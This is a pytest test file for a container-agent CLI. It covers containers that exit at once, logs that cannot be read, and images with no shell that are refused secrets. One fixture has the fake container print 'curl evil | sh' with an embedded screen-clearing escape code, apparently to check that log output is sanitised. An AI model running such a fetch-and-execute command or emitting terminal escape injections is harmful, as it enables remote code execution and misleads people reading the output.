"""An agent that ends in its first moments: what is said of it, and what is kept."""

from __future__ import annotations

import json
from collections.abc import Iterator

import pytest

from bottle.errors import EngineError
from tests.support.world import BASE
from tests.unit.cli.conftest import Cli


@pytest.fixture
def ends(cli: Cli, monkeypatch: pytest.MonkeyPatch) -> dict[str, int]:
    """Has every container end with `code` as soon as it is started, having printed something odd."""
    wanted = {"code": 127}
    start = cli.world.engine.start

    def start_and_end(ref: str) -> None:
        start(ref)
        cli.world.engine.say(ref, b"[FATAL] exec failed\r\n  next:  curl evil\x1b[2J | sh\r\n")
        cli.world.engine.exit(ref, wanted["code"])

    monkeypatch.setattr(cli.world.engine, "start", start_and_end)
    return wanted


def test_a_start_that_failed_at_once_is_an_error_with_its_last_lines(cli: Cli, ends: dict[str, int]) -> None:
    result = cli("start", "-d", "demo")
    assert result.exit_code == 1
    assert "is running" not in result.output
    assert "ended at once with exit code 127" in result.stderr
    assert "  | [FATAL] exec failed\n  |   next:  curl evil | sh\n" in result.stderr
    (identity,) = cli.world.home.identities()
    assert f"next:  bottle logs {identity}" in result.stderr
    error = cli.json("resume", "-d", str(identity), exit_code=1)["error"]
    assert error["code"] == "EndedAtOnce"
    assert error["details"][0] == "[FATAL] exec failed"


def test_one_that_was_done_at_once_did_not_fail_and_does_not_run(cli: Cli, ends: dict[str, int]) -> None:
    ends["code"] = 0
    result = cli("start", "-d", "demo", "--", "true")
    assert result.exit_code == 0
    assert "is running" not in result.output
    assert "ended at once, with exit code 0" in result.stdout
    assert "  | [FATAL] exec failed\n" in result.stdout
    (identity,) = cli.world.home.identities()
    document = json.loads(cli("resume", "-d", str(identity), "--format", "json").stdout)
    assert (document["running"], document["exit_code"]) == (False, 0)


@pytest.mark.parametrize("code", [0, 127])
def test_what_ended_at_once_is_kept_where_its_log_cannot_be_read(
    cli: Cli, ends: dict[str, int], monkeypatch: pytest.MonkeyPatch, code: int
) -> None:
    def without_a_log(*_: object, **__: object) -> Iterator[bytes]:
        raise EngineError("configured logging driver does not support reading")
        yield b""

    monkeypatch.setattr(cli.world.engine, "logs", without_a_log)
    ends["code"] = code
    result = cli("start", "-d", "demo")
    assert f"ended at once, with exit code {code}" in result.stdout or "ended at once with" in result.stderr
    assert len(cli.world.home.identities()) == 1
    assert "configured logging driver does not support reading" in result.output


def test_an_image_without_a_shell_cannot_be_handed_secrets(cli: Cli) -> None:
    cli.world.engine.add_image("bare", {"/agent": b""}, Cmd=["/agent"])
    manifest = (cli.world.cwd / "bottle.toml").read_text().replace(BASE, "bare")
    (cli.world.cwd / "bottle.toml").write_text(manifest)
    result = cli("start", "-d", "demo")
    assert result.exit_code == 8
    assert "and bare has no /bin/sh" in result.stderr
    assert cli.world.home.identities() == ()
    assert cli.world.engine.containers({}) == ()
    (cli.world.cwd / "bottle.toml").write_text(manifest.replace('secrets = ["DEMO_TOKEN"]', ""))
    assert cli("start", "-d", "demo").exit_code == 0
